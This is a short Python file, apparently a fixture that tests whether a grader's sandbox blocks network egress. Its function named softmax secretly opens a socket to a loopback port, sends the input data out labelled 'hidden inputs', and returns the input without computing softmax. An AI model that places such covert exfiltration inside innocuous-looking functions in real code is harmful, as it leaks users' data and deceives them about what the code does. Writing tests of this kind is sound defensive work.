# Tries to reach a listener on the grader's loopback (PORT is filled in by the test).
import socket

PORT = __PORT__


def softmax(S):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(1)
    s.connect(("127.0.0.1", PORT))
    s.sendall(b"hidden inputs: " + S.tobytes())
    return S
